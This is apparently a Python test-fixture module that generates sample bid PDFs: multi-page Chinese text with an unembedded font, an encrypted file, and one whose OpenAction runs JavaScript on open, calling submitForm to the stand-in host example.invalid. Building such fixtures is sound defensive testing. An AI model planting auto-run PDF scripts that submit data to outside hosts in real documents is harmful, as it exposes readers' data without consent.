"""PDFs as bidders send them: many pages, Chinese without embedded fonts, encrypted, broken."""

import io

import pikepdf
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen.canvas import Canvas

SCRIPT = "app.alert('never'); this.submitForm('https://example.invalid');"


def document(pages=3, title="施工组织设计"):
    """A PDF in which every page names its number; the font is named and not embedded."""
    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    buffer = io.BytesIO()
    canvas = Canvas(buffer, pagesize=(595, 842))
    for number in range(1, pages + 1):
        canvas.setFont("STSong-Light", 20)
        canvas.drawString(72, 760, f"{title} 第{number}页")
        canvas.setFont("STSong-Light", 12)
        for line in range(20):
            canvas.drawString(72, 720 - 24 * line, f"顶管推进速度控制在每分钟{number + line}毫米。")
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def encrypted():
    """One that asks for a password."""
    return _changed(encryption=pikepdf.Encryption(owner="owner", user="user"))


def with_script():
    """One that would run a script as soon as it is opened."""

    def add(pdf):
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=SCRIPT)
        pdf.Root.OpenAction = pdf.make_indirect(action)

    return _changed(add)


def _changed(change=lambda pdf: None, **options):
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(document(1))) as pdf:
        change(pdf)
        pdf.save(buffer, **options)
    return buffer.getvalue()
